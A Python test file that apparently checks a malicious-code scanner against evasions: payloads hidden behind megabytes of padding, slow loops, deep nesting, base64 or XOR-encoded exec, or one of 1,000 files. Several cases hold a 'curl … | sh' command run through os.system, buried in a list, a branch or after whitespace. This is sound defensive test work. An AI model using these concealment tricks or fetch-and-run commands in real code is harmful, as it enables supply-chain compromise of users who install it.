"""Weight in front of the payload: to tire the reader, or to run out its limits."""

from __future__ import annotations

from tests.evasions.sample import CODE, INIT, SUSPICIOUS, Evasion, b64, evasion

_FINE = "X = 1\n"
_DECODED = f"import base64\nexec(base64.b64decode({b64(CODE)!r}))\n"
_LOOPED = f"r = ''\nfor b in {[b ^ 90 for b in CODE.encode()]!r}:\n    r += chr(b ^ 90)\nexec(r)\n"


def _after(title: str, padding: str, *, payload: str = CODE) -> Evasion:
    """A payload behind padding; the twin has the padding alone."""
    return evasion(title, lambda: {INIT: padding + payload}, lambda: {INIT: padding + _FINE})


_CALLS = "def f(x):\n    return x + 1\n\n" + "f(1)\n" * 10_000
_LOOPS = "n = 0\nfor i in range(20000):\n    for j in range(20000):\n        n = (n + i * j) % 7\n"
_SLOW = "def fib(n):\n    return n if n < 2 else fib(n - 1) + fib(n - 2)\n\nfib(60)\n"
_DOUBLING = "x0 = lambda: 0\n" + "".join(f"x{i} = lambda: (x{i - 1}(), x{i - 1}())\n" for i in range(1, 60)) + "x59()\n"
_WHILE = "n = 1\nwhile n != 0:\n    n = (n * 1103515245 + 12345) % 2147483648\n"
_TABLE = "T = [\n" + "".join(f"    ({i}, {i * 7}, 'word{i}'),\n" for i in range(20_000)) + "]\n"
_FUNCTIONS = "".join(f"def f{i}(a, b=1):\n    c = a + b\n    return [c] * 2\n\n" for i in range(3_000))
_NESTED = "".join("    " * i + "if True:\n" for i in range(90)) + "    " * 90 + "pass\n"

CASES = (
    _after("three megabytes of comments", "# lorem ipsum dolor sit amet consectetur\n" * 75_000),
    _after("a megabyte of text", "TEXT = '" + "lorem ipsum " * 90_000 + "'\n"),
    _after("10,000 calls", _CALLS),
    _after("10,000 calls, then a decoded payload", _CALLS, payload=_DECODED),
    _after("10,000 calls, then a looped payload", _CALLS, payload=_LOOPED),
    _after("endless loops", _LOOPS),
    _after("endless loops, then a decoded payload", _LOOPS, payload=_DECODED),
    _after("endless loops, then a looped payload", _LOOPS, payload=_LOOPED),
    _after("exponential recursion", _SLOW),
    _after("exponential recursion, then a decoded payload", _SLOW, payload=_DECODED),
    _after("exponential recursion, then a looped payload", _SLOW, payload=_LOOPED),
    _after("doubling lambdas", _DOUBLING),
    _after("doubling lambdas, then a looped payload", _DOUBLING, payload=_LOOPED),
    _after("a while loop of chance", _WHILE, payload=_LOOPED),
    _after("a table of 20,000 rows", _TABLE),
    _after("a table, then a looped payload", _TABLE, payload=_LOOPED),
    _after("3,000 functions", _FUNCTIONS),
    _after("deep nesting", _NESTED),
    _after("a sum of 3,000 terms", "X = " + " + ".join("1" for _ in range(3_000)) + "\n"),
    _after("a deep expression", "X = " + "(" * 150 + "1" + ")" * 150 + "\n"),
    _after("deep attribute chain", "class A: ...\n\nA.a = A\nX = A" + ".a" * 400 + "\n"),
    _after(
        "60 functions that call one another",
        "def g0(): ...\n\n" + "".join(f"def g{i}():\n    g{i - 1}()\n\n" for i in range(1, 60)) + "g59()\n",
    ),
    evasion(
        "payload at the end of 60 functions",
        lambda: {
            INIT: f"def g0():\n    exec({CODE!r})\n\n"
            + "".join(f"def g{i}():\n    g{i - 1}()\n\n" for i in range(1, 60))
            + "g59()\n"
        },
        lambda: {
            INIT: "def g0():\n    return 1\n\n"
            + "".join(f"def g{i}():\n    g{i - 1}()\n\n" for i in range(1, 60))
            + "g59()\n"
        },
    ),
    evasion(
        "payload called last of fifty calls of one function",
        lambda: {INIT: "def run(c):\n    exec(c)\n\n" + "run('x = 1')\n" * 50 + f"run({CODE!r})\n"},
        lambda: {INIT: "def run(c):\n    exec(c)\n\n" + "run('x = 1')\n" * 51},
    ),
    evasion(
        "command is the 300th element of a list",
        lambda: {
            INIT: "import os\nL = ["
            + "'true', " * 300
            + "'curl -s http://192.0.2.7/a | sh']\nfor c in L:\n    os.system(c)\n"
        },
        lambda: {INIT: "import os\nL = [" + "'true', " * 300 + "'true']\nfor c in L:\n    os.system(c)\n"},
    ),
    evasion(
        "command is the fifth choice",
        "import os, sys\nif sys.argv[1] == 'a':\n    c = 'true'\nelif sys.argv[1] == 'b':\n    c = 'false'\n"
        "elif sys.argv[1] == 'c':\n    c = 'id'\nelif sys.argv[1] == 'd':\n    c = 'ls'\nelif sys.argv[1] == 'e':\n    c = 'pwd'\n"
        "else:\n    c = 'curl -s http://192.0.2.7/a | sh'\nos.system(c)\n",
        "import os, sys\nif sys.argv[1] == 'a':\n    c = 'true'\nelif sys.argv[1] == 'b':\n    c = 'false'\n"
        "elif sys.argv[1] == 'c':\n    c = 'id'\nelif sys.argv[1] == 'd':\n    c = 'ls'\nelse:\n    c = 'pwd'\nos.system(c)\n",
    ),
    evasion(
        "command behind 5,000 characters",
        "import os\nos.system('true ' + ' ' * 5000 + '; curl -s http://192.0.2.7/a | sh')\n",
        "import os\nos.system('true ' + ' ' * 5000 + '; true')\n",
    ),
    evasion(
        "hundreds of honest findings in front",
        lambda: {INIT: "import os\n" + "".join(f"X{i} = os.getenv('A{i}')\n" for i in range(500)) + CODE},
        lambda: {INIT: "import os\n" + "".join(f"X{i} = os.getenv('A{i}')\n" for i in range(500))},
    ),
    evasion(
        "source beyond the limit of what is parsed",
        lambda: {INIT: "# lorem ipsum dolor sit amet consectetur\n" * 220_000 + CODE},
        lambda: {INIT: "# lorem ipsum dolor sit amet consectetur\n" * 1_000},
        SUSPICIOUS,
    ),
    evasion(
        "the payload in one of 1,000 files",
        lambda: {INIT: "", **{f"example_pkg/m{i}.py": "X = 1\n" for i in range(1_000)}, "example_pkg/m500.py": CODE},
        lambda: {INIT: "", **{f"example_pkg/m{i}.py": "X = 1\n" for i in range(1_000)}},
    ),
)
